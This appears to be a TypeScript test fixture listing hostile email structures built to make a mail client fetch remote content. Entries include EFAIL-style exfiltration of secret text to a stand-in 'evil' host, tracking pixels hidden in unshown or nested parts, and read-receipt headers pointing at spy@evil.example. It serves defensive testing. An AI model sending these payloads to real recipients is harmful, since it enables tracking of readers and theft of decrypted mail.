import { type HostileMail, htmlPart, textPart } from './hostile-mail.ts'

function multipart(type: string, ...parts: string[][]): string[] {
  return [
    `Content-Type: multipart/${type}; boundary="b"`,
    '',
    ...parts.flatMap((part) => ['--b', ...part]),
    '--b--',
  ]
}

const part = (type: string, ...content: string[]): string[] => [`Content-Type: ${type}`, '', ...content]
const nested = (type: string, ...parts: string[][]): string[] =>
  multipart(type, ...parts).map((line) =>
    line.replace(/^--b|"b"/, (b) => (b === '"b"' ? '"inner"' : '--inner')),
  )

/** Mails whose attack is their structure: what a joined, nested or unshown part could make a program fetch. */
export const structures: HostileMail[] = [
  {
    // A picture opened in one part and closed in another, around a text (EFAIL).
    name: 'mime-efail-picture',
    source: (evil) =>
      multipart(
        'mixed',
        htmlPart(`<p>before</p><img src="${evil}/efail?`),
        textPart('the secret'),
        htmlPart('">'),
      ),
  },
  {
    // A style opened in one part and closed in another.
    name: 'mime-efail-style',
    source: (evil) =>
      multipart(
        'mixed',
        htmlPart(`<style>p { background: url(${evil}/style?`),
        textPart('the secret'),
        htmlPart(')}</style>'),
      ),
  },
  {
    // A link around a part.
    name: 'mime-efail-link',
    source: (evil) =>
      multipart('mixed', htmlPart(`<a href="${evil}/link?`), textPart('the secret'), htmlPart('">press</a>')),
  },
  {
    // A form around a part.
    name: 'mime-efail-form',
    source: (evil) =>
      multipart(
        'mixed',
        htmlPart(`<form action="${evil}/form"><textarea name=x>`),
        textPart('the secret'),
        htmlPart('</textarea><button autofocus>go</button></form>'),
      ),
  },
  {
    // A nested multipart with the boundary of the one around it.
    name: 'mime-boundary-twice',
    source: (evil) =>
      multipart('mixed', [
        'Content-Type: multipart/mixed; boundary="b"',
        '',
        '--b',
        ...htmlPart(`<img src="${evil}/nested.png">`),
      ]),
  },
  {
    // An alternative that is not shown.
    name: 'mime-unshown-alternative',
    source: (evil) =>
      multipart('alternative', htmlPart(`<img src="${evil}/first.png">`), htmlPart('<p>shown</p>')),
  },
  {
    // An AMP part.
    name: 'mime-amp-part',
    source: (evil) =>
      multipart(
        'alternative',
        textPart('plain'),
        part(
          'text/x-amp-html',
          `<!doctype html><html ⚡4email><amp-img src="${evil}/amp.png" width=1 height=1></amp-img>`,
        ),
        htmlPart('<p>shown</p>'),
      ),
  },
  {
    // A base by Content-Location.
    name: 'mime-content-location',
    source: (evil) =>
      multipart(
        'related',
        htmlPart('<p>shown</p><img src="one.png">', `Content-Location: ${evil}/location/`),
      ),
  },
  {
    // A base by Content-Base.
    name: 'mime-content-base',
    source: (evil) => [`Content-Base: ${evil}/base/`, ...htmlPart('<p>shown</p><img src="one.png">')],
  },
  {
    // A body that lies elsewhere.
    name: 'mime-external-body',
    source: (evil) =>
      multipart(
        'mixed',
        textPart('shown'),
        part(
          `message/external-body; access-type=URL; URL="${evil}/body.html"`,
          'Content-Type: text/html',
          '',
          '',
        ),
        part('message/external-body; access-type=anon-ftp; site="evil.example"; name="a.html"', '', ''),
      ),
  },
  {
    // An invitation with a picture and an attachment that lie elsewhere.
    name: 'mime-invitation',
    source: (evil) =>
      multipart(
        'mixed',
        textPart('shown'),
        part(
          'text/calendar; method=REQUEST',
          'BEGIN:VCALENDAR',
          'BEGIN:VEVENT',
          `ATTACH;FMTTYPE=image/png:${evil}/attach.png`,
          `IMAGE;VALUE=URI:${evil}/image.png`,
          `X-ALT-DESC;FMTTYPE=text/html:<img src="${evil}/description.png">`,
          'END:VEVENT',
          'END:VCALENDAR',
        ),
      ),
  },
  {
    // A contact card with a photo that lies elsewhere.
    name: 'mime-contact-card',
    source: (evil) =>
      multipart(
        'mixed',
        textPart('shown'),
        part(
          'text/vcard',
          'BEGIN:VCARD',
          'VERSION:4.0',
          `PHOTO:${evil}/photo.png`,
          `LOGO;VALUE=uri:${evil}/logo.png`,
          'END:VCARD',
        ),
      ),
  },
  {
    // A mail inside the mail.
    name: 'mime-mail-in-mail',
    source: (evil) =>
      multipart(
        'mixed',
        textPart('shown'),
        part(
          'message/rfc822',
          'Subject: inside',
          'Content-Type: text/html',
          '',
          `<img src="${evil}/inside.png">`,
        ),
      ),
  },
  {
    // A digest of mails.
    name: 'mime-digest',
    source: (evil) =>
      multipart('digest', [
        '',
        'Subject: inside',
        'Content-Type: text/html',
        '',
        `<img src="${evil}/digest.png">`,
      ]),
  },
  {
    // An SVG shown in its place.
    name: 'mime-cid-svg',
    source: (evil) =>
      multipart('related', htmlPart('<p>shown</p><img src="cid:drawing@evil.example">'), [
        'Content-Type: image/svg+xml',
        'Content-ID: <drawing@evil.example>',
        'Content-Disposition: inline',
        '',
        `<svg xmlns="http://www.w3.org/2000/svg"><image href="${evil}/drawing.png"/></svg>`,
      ]),
  },
  {
    // An HTML file that calls itself a picture.
    name: 'mime-cid-html',
    source: (evil) =>
      multipart('related', htmlPart('<p>shown</p><img src="cid:fake@evil.example">'), [
        'Content-Type: image/png',
        'Content-ID: <fake@evil.example>',
        '',
        `<html><img src="${evil}/fake.png"></html>`,
      ]),
  },
  {
    // An HTML part that calls itself an attachment.
    name: 'mime-html-attachment',
    source: (evil) =>
      multipart(
        'mixed',
        textPart('shown'),
        htmlPart(`<img src="${evil}/attached.png">`, 'Content-Disposition: attachment; filename=a.html'),
      ),
  },
  {
    // UTF-7 in a part that says so.
    name: 'mime-utf7',
    source: (evil) =>
      part('text/html; charset=utf-7', `<p>shown</p>+ADw-img src=+ACI-${evil}/utf7.png+ACIAPg-`),
  },
  {
    // Headers that name pictures.
    name: 'mime-header-pictures',
    source: (evil) => [
      `X-Image-URL: ${evil}/face.png`,
      `Face: ${evil}/face.png`,
      `BIMI-Location: v=BIMI1; l=${evil}/bimi.svg`,
      ...textPart('shown'),
    ],
  },
  {
    // Requests for a receipt.
    name: 'mime-receipts',
    source: () => [
      'Disposition-Notification-To: spy@evil.example',
      'Return-Receipt-To: spy@evil.example',
      'X-Confirm-Reading-To: spy@evil.example',
      ...textPart('shown'),
    ],
  },
  {
    // A second Content-Type.
    name: 'mime-content-type-twice',
    source: (evil) => ['Content-Type: text/plain', ...htmlPart(`<img src="${evil}/second.png">`)],
  },
  {
    // An alternative inside a related inside a mixed.
    name: 'mime-nested-alternative',
    source: (evil) =>
      multipart(
        'mixed',
        nested('alternative', textPart('plain'), htmlPart(`<p>shown</p><img src="${evil}/deep.png">`)),
        part('text/html', `<img src="${evil}/beside.png">`),
      ),
  },
  {
    // A style sheet that came along, with an address of its own.
    name: 'mime-cid-style',
    source: (evil) =>
      multipart('related', htmlPart('<link rel=stylesheet href="cid:sheet@evil.example"><p>shown</p>'), [
        'Content-Type: text/css',
        'Content-ID: <sheet@evil.example>',
        '',
        `@import "${evil}/a.css"; p { background: url(${evil}/a.png) }`,
      ]),
  },
  {
    // A page that came along, in a frame.
    name: 'mime-cid-frame',
    source: (evil) =>
      multipart('related', htmlPart('<iframe src="cid:page@evil.example"></iframe><p>shown</p>'), [
        'Content-Type: text/html',
        'Content-ID: <page@evil.example>',
        '',
        `<img src="${evil}/a.png">`,
      ]),
  },
  {
    // A mail inside what claims to be signed.
    name: 'mime-signed',
    source: (evil) =>
      multipart(
        'signed; protocol="application/pgp-signature"',
        htmlPart(`<p>shown</p><img src="${evil}/signed.png">`),
        part('application/pgp-signature', `-----BEGIN PGP SIGNATURE-----\n\n${evil}/key.asc`),
      ),
  },
]
